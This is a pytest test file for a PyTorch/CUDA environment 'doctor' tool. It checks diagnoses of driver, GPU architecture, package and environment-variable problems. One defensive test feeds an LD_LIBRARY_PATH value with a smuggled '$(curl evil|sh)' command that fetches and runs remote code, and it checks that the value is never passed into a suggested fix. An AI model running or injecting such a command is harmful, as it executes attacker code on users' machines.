"""The doctor on real machines: replayed hosts (tests/fixtures/hosts/) and real collect_env
reports (tests/fixtures/collect_env/), varied one fact at a time where a case needs it.

Wheel knowledge for the arch/driver cases comes from the frozen fixture matrix
(tests/fixtures/matrix): the readings in VERIFIED.md (§3 architectures measured from the wheels'
fat binaries) and NVIDIA's driver tables, as the bundled data carried them.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Optional

import pytest

from setup_env.decide.doctor import examine
from setup_env.decide.model import Finding, Plan
from setup_env.facts import CudaToolkit, Facts, Gpu, InstalledPackage, Note, NvidiaInfo
from setup_env.knowledge import matrix as mx
from setup_env.knowledge.variant import CPU, Variant
from setup_env.probe.detect import detect
from setup_env.probe.host import ReplayHost
from setup_env.probe.report import parse

HERE = Path(__file__).parent
REPORTS = HERE / "fixtures" / "collect_env"
HOSTS = HERE / "fixtures" / "hosts"


# The frozen fixture matrix (a real subset of setup_env/data/wheels.json; see its SOURCE): a data
# refresh never changes these tests.
M = mx.load_matrix(HERE / "fixtures" / "matrix" / "wheels-subset.json")
V = Variant.parse


def report(name: str) -> Facts:
    return parse((REPORTS / name).read_text(encoding="utf-8")).facts


def host(name: str) -> Facts:
    return detect(ReplayHost(HOSTS / name), cloud_metadata=False)


def codes(findings: tuple[Finding, ...]) -> list[str]:
    return [f.code for f in findings]


def only(findings: tuple[Finding, ...], code: str) -> Finding:
    hits = [f for f in findings if f.code == code]
    assert len(hits) == 1, codes(findings)
    return hits[0]


def with_torch(facts: Facts, version: str, variant: str, cuda: Optional[str] = None) -> Facts:
    pkgs = [p for p in facts.packages if p.name != "torch"]
    torch = InstalledPackage("torch", version, variant=V(variant), cuda=cuda, installer="pip")
    return replace(facts, packages=(torch, *pkgs))


def with_gpu(facts: Facts, name: str, cc: Optional[str], driver: str = "580.95.05") -> Facts:
    gpu = Gpu(index=0, name=name, compute_capability=cc)
    return replace(facts, nvidia=NvidiaInfo(driver_version=driver, gpus=(gpu,)))


PLAN_CU130 = Plan(
    status="ok",
    torch_version="2.13.0",
    variant=V("cu130"),
    index_url="https://download.pytorch.org/whl/cu130",
    command="pip install torch==2.13.0 --index-url https://download.pytorch.org/whl/cu130",
)


# --- this machine and other replayed hosts ---------------------------------------------------


def test_this_machine_toolkit_without_driver_is_the_only_note() -> None:
    findings = examine(host("debian12-nogpu-cuda13toolkit"), None, M)
    assert codes(findings) == ["toolkit-without-driver"]
    f = findings[0]
    assert f.severity == "info"
    assert "13.0" in f.title
    assert "does not decide the wheel" in (f.fix or "")


def test_gpu_instance_without_driver() -> None:
    findings = examine(host("linux-aws-g5-nitro-nodriver"), None, M)
    f = only(findings, "gpu-without-driver")
    assert f.severity == "error"
    assert "NVIDIA A10G" in f.title
    assert codes(findings)[0] == "gpu-without-driver"  # errors first
    assert "torch-not-installed" in codes(findings)


# --- the build against the hardware ----------------------------------------------------------


def test_cpu_build_on_gpu_machine_from_a_real_report() -> None:
    findings = examine(report("windows10-cpu-build-rtx-truncated.txt"), None, M)
    f = only(findings, "cpu-build-on-gpu")
    assert f.severity == "error"
    assert "NVIDIA GeForce RTX" in " ".join(f.evidence)
    assert f.command is None  # no plan given: no command to invent


def test_cpu_build_fix_reinstalls_with_the_plans_command() -> None:
    facts = with_gpu(host("debian12-nogpu-cuda13toolkit"), "NVIDIA H100 80GB HBM3", "9.0")
    f = only(examine(facts, PLAN_CU130, M), "cpu-build-on-gpu")
    # pip counts 2.13.0+cpu as satisfying torch==2.13.0, so the CPU build is removed first.
    assert f.command == (
        "pip uninstall -y torch torchvision torchaudio && "
        "pip install torch==2.13.0 --index-url https://download.pytorch.org/whl/cu130"
    )


def test_cpu_build_without_gpu_is_fine() -> None:
    assert "cpu-build-on-gpu" not in codes(examine(report("debian12-cpu-torch2.13.txt"), None, M))


def test_cuda_newer_than_driver_from_a_real_report() -> None:
    # torch 2.9.0 built with CUDA 13.0 on driver 570.172.08: CUDA 13 needs R580.
    findings = examine(report("linux-h100-cu130-driver570.txt"), None, M)
    f = only(findings, "cuda-newer-than-driver")
    assert f.severity == "error"
    assert f.details["min_driver"] == "580"
    assert "upgrade the NVIDIA driver to >= 580" in (f.fix or "")


def test_cuda_newer_than_driver_from_the_drivers_own_cuda_version() -> None:
    facts = report("linux-h100-cu130-driver570.txt")
    assert facts.nvidia is not None
    nv = replace(facts.nvidia, driver_version=None, cuda_driver_version="12.8")
    f = only(examine(replace(facts, nvidia=nv), None, None), "cuda-newer-than-driver")
    assert "12.8" in " ".join(f.evidence)


def test_minor_version_compatibility_is_a_note_not_an_error() -> None:
    facts = with_torch(report("linux-h100-cu130-driver570.txt"), "2.13.0+cu129", "cu129", "12.9")
    findings = examine(facts, None, M)
    assert "cuda-newer-than-driver" not in codes(findings)
    assert only(findings, "cuda-minor-version-compat").severity == "info"


def test_new_driver_has_no_driver_finding() -> None:
    facts = report("linux-h100-cu130-driver570.txt")
    assert facts.nvidia is not None
    facts = replace(facts, nvidia=replace(facts.nvidia, driver_version="580.95.05"))
    found = codes(examine(facts, None, M))
    assert "cuda-newer-than-driver" not in found
    assert "cuda-minor-version-compat" not in found


# --- architectures (VERIFIED.md §3 rule) -----------------------------------------------------


def test_blackwell_on_a_cu126_build_has_no_kernels() -> None:
    facts = with_gpu(report("linux-h100-cu130-driver570.txt"), "NVIDIA GeForce RTX 5090", None)
    facts = with_torch(facts, "2.9.1+cu126", "cu126", "12.6")
    f = only(examine(facts, PLAN_CU130, M), "gpu-arch-not-in-wheel")
    assert f.severity == "error"
    assert "sm_120" in f.title  # the cc came from the GPU catalogue
    assert f.command is not None and f.command.endswith(PLAN_CU130.command)


def test_supported_gpu_has_no_arch_finding() -> None:
    facts = with_gpu(report("linux-h100-cu130-driver570.txt"), "NVIDIA GeForce RTX 4090", "8.9")
    facts = with_torch(facts, "2.14.1+cu130", "cu130", "13.0")
    assert not [c for c in codes(examine(facts, None, M)) if c.startswith("gpu-arch")]


def test_aarch64_cu130_wheel_has_no_t4g_kernels() -> None:
    # AWS g5g: Graviton2 + T4G (sm_75); the aarch64 cu130 wheel starts at sm_80 (VERIFIED §3).
    facts = with_gpu(report("linux-h100-cu130-driver570.txt"), "NVIDIA T4G", "7.5")
    facts = with_torch(facts, "2.14.1+cu130", "cu130", "13.0")
    facts = replace(
        facts,
        cpu=replace(facts.cpu, architecture="aarch64"),
        python=replace(facts.python, machine="aarch64"),  # the interpreter's wheel is aarch64's
    )
    assert "gpu-arch-not-in-wheel" in codes(examine(facts, None, M))


# --- packages --------------------------------------------------------------------------------


def test_companion_built_for_another_cuda() -> None:
    facts = report("windows11-gtx1050ti-cu117.txt")
    vision = InstalledPackage("torchvision", "0.15.2+cpu", variant=CPU, installer="pip")
    pkgs = (*(p for p in facts.packages if p.name != "torchvision"), vision)
    f = only(examine(replace(facts, packages=pkgs), None, M), "companion-build-mismatch")
    assert f.severity == "error"
    assert "torchvision 0.15.2+cpu" in f.title and "cu117" in f.title


def test_companion_of_another_release() -> None:
    facts = host("debian12-nogpu-cuda13toolkit")
    vision = InstalledPackage("torchvision", "0.26.0+cpu", variant=CPU, installer="pip")
    facts = replace(facts, packages=(*facts.packages, vision))
    f = only(examine(facts, None, M), "companion-version-mismatch")
    assert "0.28.0" in f.title


def test_shadowed_install() -> None:
    facts = host("debian12-nogpu-cuda13toolkit")
    user = InstalledPackage(
        "torch",
        "2.5.1",
        location="/root/.local/lib/python3.11/site-packages",
        variant=V("cu124"),
        installer="pip",
        shadowed=True,
    )
    f = only(
        examine(replace(facts, packages=(*facts.packages, user)), None, M),
        "several-installs",
    )
    assert f.severity == "warning"
    assert any("/root/.local" in e for e in f.evidence)


def test_nvcc_major_differs_from_torch_cuda() -> None:
    facts = report("linux-h100-cu130-driver570.txt")  # nvcc 13.0
    facts = with_torch(facts, "2.4.0+cu121", "cu121", "12.1")
    f = only(examine(facts, None, M), "nvcc-major-mismatch")
    assert f.command is None
    other = CudaToolkit(version="12.1", full_version="12.1.105", path="/usr/local/cuda-12.1")
    facts = replace(facts, toolkits=(*facts.toolkits, other))
    f = only(examine(facts, None, M), "nvcc-major-mismatch")
    assert f.command == "export CUDA_HOME=/usr/local/cuda-12.1"


# --- environment -----------------------------------------------------------------------------


def _mig_facts(env: dict[str, str]) -> Facts:
    return replace(report("linux-4x-h100-mig-details.txt"), environment=env)


@pytest.mark.parametrize(
    ("value", "hidden"),
    [
        ("", True),
        ("-1", True),
        ("4", True),
        ("NoDevFiles", True),
        ("0,1", False),
        ("1,-1", False),
        ("GPU-8f2a9c1e-0000-1111-2222-333344445555", False),
        ("3", False),
    ],
)
def test_cuda_visible_devices(value: str, hidden: bool) -> None:
    found = codes(examine(_mig_facts({"CUDA_VISIBLE_DEVICES": value}), None, M))
    assert ("cuda-visible-devices-hides-all" in found) is hidden


def test_ld_library_path_with_system_cuda() -> None:
    env = {"LD_LIBRARY_PATH": "/usr/local/cuda-12.1/lib64:/opt/intel/lib:/usr/lib/x86_64-linux-gnu"}
    f = only(examine(_mig_facts(env), None, M), "ld-library-path-cuda")
    assert f.command == "export LD_LIBRARY_PATH=/opt/intel/lib:/usr/lib/x86_64-linux-gnu"
    f = only(
        examine(_mig_facts({"LD_LIBRARY_PATH": "/usr/local/cuda/lib64"}), None, M),
        "ld-library-path-cuda",
    )
    assert f.command == "unset LD_LIBRARY_PATH"


def test_ld_library_path_value_never_reaches_a_command_unvalidated() -> None:
    env = {"LD_LIBRARY_PATH": "/usr/local/cuda/lib64:/tmp/$(curl evil|sh)"}
    f = only(examine(_mig_facts(env), None, M), "ld-library-path-cuda")
    assert f.command is None


# --- platform and driver state ---------------------------------------------------------------


def test_mig_from_a_real_report() -> None:
    f = only(examine(report("linux-4x-h100-mig-details.txt"), None, M), "mig-enabled")
    assert f.evidence == ("GPU 2 NVIDIA H100: MIG mode on",)


def test_macos_too_old_for_mps() -> None:
    assert "macos-too-old-for-mps" in codes(
        examine(report("macos13-m2max-torch2.10dev.txt"), None, M)
    )
    # An Intel Mac on 14.5 has no MPS question.
    assert codes(examine(report("macos14-x86_64-email-reply.txt"), None, M)) == []


def test_rosetta_python() -> None:
    facts = report("macos13-m2max-torch2.10dev.txt")
    facts = replace(facts, python=replace(facts.python, machine="x86_64", rosetta=True))
    f = only(examine(facts, None, M), "rosetta-python")
    assert f.severity == "error"
    assert "Apple M2 Max" in " ".join(f.evidence)


def test_driver_library_mismatch() -> None:
    facts = report("linux-h100-cu130-driver570.txt")
    assert facts.nvidia is not None
    nv = replace(facts.nvidia, error="Failed to initialize NVML: Driver/library version mismatch")
    f = only(examine(replace(facts, nvidia=nv), None, M), "driver-library-mismatch")
    assert f.severity == "error" and f.command == "sudo reboot"


def test_probe_notes_become_findings_and_errors_come_first() -> None:
    facts = report("linux-4x-h100-mig-details.txt")
    note = Note("nvidia-smi-failed", "nvidia-smi failed: NVIDIA-SMI has failed", "nvidia-smi")
    facts = replace(facts, notes=(*facts.notes, note), environment={"CUDA_VISIBLE_DEVICES": ""})
    findings = examine(facts, None, M)
    assert "nvidia-smi-failed" in codes(findings)
    order = {"error": 0, "warning": 1, "info": 2}
    assert [order[f.severity] for f in findings] == sorted(order[f.severity] for f in findings)


# --- `setup-env doctor` ----------------------------------------------------------------------


def test_doctor_cli_on_this_machine_replayed(capsys: pytest.CaptureFixture[str]) -> None:
    import json

    from setup_env.cli import main

    assert main(["doctor", "--root", str(HOSTS / "debian12-nogpu-cuda13toolkit"), "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["schema"] == "setup-env/doctor"
    assert doc["doctor"]["counts"] == {"error": 0, "warning": 0, "info": 1}
    assert [f["code"] for f in doc["doctor"]["findings"]] == ["toolkit-without-driver"]


def test_doctor_cli_error_exits_1_with_fix_under_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from setup_env.cli import main

    facts = _mig_facts({"CUDA_VISIBLE_DEVICES": "-1"})
    path = tmp_path / "facts.json"
    path.write_text(facts.to_json(), encoding="utf-8")
    monkeypatch.setenv("NO_COLOR", "1")
    assert main(["doctor", "--facts", str(path)]) == 1
    out = capsys.readouterr().out
    lines = out.splitlines()
    at = next(i for i, line in enumerate(lines) if "[cuda-visible-devices-hides-all]" in line)
    assert lines[at].startswith("ERROR")
    assert "$ unset CUDA_VISIBLE_DEVICES" in "\n".join(lines[at : at + 6])
    assert "\x1b[" not in out


def test_doctor_cli_unexaminable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from setup_env.cli import main

    bad = tmp_path / "facts.json"
    bad.write_text("{not json", encoding="utf-8")
    assert main(["doctor", "--facts", str(bad)]) == 3
    assert main(["doctor", "--root", str(tmp_path)]) == 3
    assert "Traceback" not in capsys.readouterr().err


# --- with the wheel matrix (the frozen fixture subset of setup_env/data/wheels.json) -----------
#
# Expected values are the primary facts the matrix must carry (VERIFIED.md section 3 arch lists;
# NVIDIA's driver table), read through the frozen fixture matrix.


def test_real_matrix_cuda13_on_driver_570() -> None:
    # torch 2.9.0+cu130 on 570.172.08 (a real report): CUDA 13.x needs R580 even with MVC.
    f = only(examine(report("linux-h100-cu130-driver570.txt"), None, M), "cuda-newer-than-driver")
    assert f.severity == "error" and f.details["min_driver"] == "580"
    assert "CUDA 13.0 needs driver >= 580 (minor-version compatibility)" in " ".join(f.evidence)


def test_real_matrix_windows_floor_differs_from_linux() -> None:
    # A real Windows host, driver 526.47 (its own CUDA 12.0): a cu126 build needs >= 528.33 on
    # Windows (Linux would do with 525.60.13). Only the table can say this: same CUDA major.
    # (528.33 is NVIDIA's 12.x minor-version floor for Windows, table 2; the data said 527.41,
    # the 12.0 GA toolkit row, until the 2026-12 data review, issue 12.)
    facts = with_torch(host("windows-geforce-526"), "2.14.1+cu126", "cu126", "12.6")
    f = only(examine(facts, None, M), "cuda-newer-than-driver")
    assert f.details["min_driver"] == "528.33"
    linux = replace(facts, os=replace(facts.os, family="linux"))
    assert "cuda-newer-than-driver" not in codes(examine(linux, None, M))


def test_real_matrix_minor_version_compat_note() -> None:
    # H100 on 590.48.01 (replayed host) with a cu132 build: 13.2 needs 595.x for full support.
    facts = with_torch(host("ubuntu-h100-590"), "2.14.1+cu132", "cu132", "13.2")
    findings = examine(facts, None, M)
    assert "cuda-newer-than-driver" not in codes(findings)
    f = only(findings, "cuda-minor-version-compat")
    assert f.severity == "info" and "needs driver >= 595." in (f.fix or "")


def test_real_matrix_blackwell_on_cu126() -> None:
    # The replayed RTX 5090 + RTX 4090 host with torch 2.9.1+cu126 (no sm_120 in cu126).
    facts = with_torch(host("fedora-rtx5090-rtx4090-580"), "2.9.1+cu126", "cu126", "12.6")
    f = only(examine(facts, PLAN_CU130, M), "gpu-arch-not-in-wheel")
    assert f.severity == "error"
    assert "RTX 5090 (sm_120)" in f.title and "4090" not in f.title  # sm_89 runs sm_86 SASS
    assert "sm_90" in f.evidence[0] and "sm_120" not in f.evidence[0]
    assert f.command is not None and f.command.endswith(PLAN_CU130.command)
    ok = with_torch(facts, "2.14.1+cu130", "cu130", "13.0")
    assert not [c for c in codes(examine(ok, None, M)) if c.startswith("gpu-arch")]


def test_real_matrix_volta_on_cu130() -> None:
    # CUDA 13 dropped sm_70 (VERIFIED.md section 3: 2.14.1+cu130 starts at sm_75).
    facts = with_gpu(host("ubuntu-h100-590"), "Tesla V100-SXM2-16GB", None, driver="590.48.01")
    facts = with_torch(facts, "2.14.1+cu130", "cu130", "13.0")
    f = only(examine(facts, None, M), "gpu-arch-not-in-wheel")
    assert "sm_70" in f.title
    cu126 = with_torch(facts, "2.14.1+cu126", "cu126", "12.6")
    assert "gpu-arch-not-in-wheel" not in codes(examine(cu126, None, M))


def test_real_matrix_aarch64_cu130_starts_at_sm80() -> None:
    facts = with_gpu(host("ubuntu-h100-590"), "NVIDIA T4G", "7.5", driver="590.48.01")
    facts = with_torch(facts, "2.14.1+cu130", "cu130", "13.0")
    assert "gpu-arch-not-in-wheel" not in codes(examine(facts, None, M))  # x86_64 has sm_75
    arm = replace(
        facts,
        cpu=replace(facts.cpu, architecture="aarch64"),
        python=replace(facts.python, machine="aarch64"),
    )
    assert "gpu-arch-not-in-wheel" in codes(examine(arm, None, M))


def test_real_matrix_companion_version() -> None:
    # This machine (torch 2.13.0+cpu) with a torchvision of another release.
    facts = host("debian12-nogpu-cuda13toolkit")
    vision = InstalledPackage("torchvision", "0.26.0+cpu", variant=CPU, installer="pip")
    f = only(
        examine(replace(facts, packages=(*facts.packages, vision)), None, M),
        "companion-version-mismatch",
    )
    assert "expects 0.28.0" in f.title and f.severity == "error"
    right = replace(vision, version="0.28.0+cpu")
    assert "companion-version-mismatch" not in codes(
        examine(replace(facts, packages=(*facts.packages, right)), None, M)
    )


def test_real_matrix_companion_from_the_release_pattern() -> None:
    # torch 2.14.1: no source names its torchvision; the matrix pins ==0.29.* (minor + 15).
    facts = with_torch(host("debian12-nogpu-cuda13toolkit"), "2.14.1+cpu", "cpu")
    vision = InstalledPackage("torchvision", "0.28.0+cpu", variant=CPU, installer="pip")
    f = only(
        examine(replace(facts, packages=(*facts.packages, vision)), None, M),
        "companion-version-mismatch",
    )
    assert "expects 0.29.*" in f.title and "torchvision==0.29.*" in (f.fix or "")


def test_real_matrix_unknown_release_says_nothing() -> None:
    # A build the data has no row for (a nightly): no arch or companion guess.
    facts = with_torch(host("fedora-rtx5090-rtx4090-580"), "2.16.0.dev20261201+cu126", "cu126")
    found = codes(examine(facts, None, M))
    assert "gpu-arch-not-in-wheel" not in found and "companion-version-mismatch" not in found
